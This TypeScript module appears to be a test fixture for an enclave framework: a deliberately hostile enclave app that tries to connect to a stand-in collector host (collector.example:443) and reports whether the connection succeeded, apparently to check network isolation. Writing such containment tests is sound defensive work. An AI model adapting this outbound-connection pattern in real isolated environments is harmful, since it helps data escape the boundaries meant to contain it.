/**
 * A hostile enclave application: it has nothing else to do than to carry data to a host of its choice.
 *
 *   POST /exfiltrate {"nonce": …}   tries to reach collector.example:443 through the parent, and says what came of it
 *
 * @module
 */
import { defineEnclave, type EnclaveApp } from "../../enclave/app/define.ts";

export const enclave: EnclaveApp = defineEnclave({
  tls: "off",
  async fetch(_, env) {
    const socket = await env.connect("collector.example", 443);
    socket.destroy();
    return Response.json({ reached: true });
  },
});
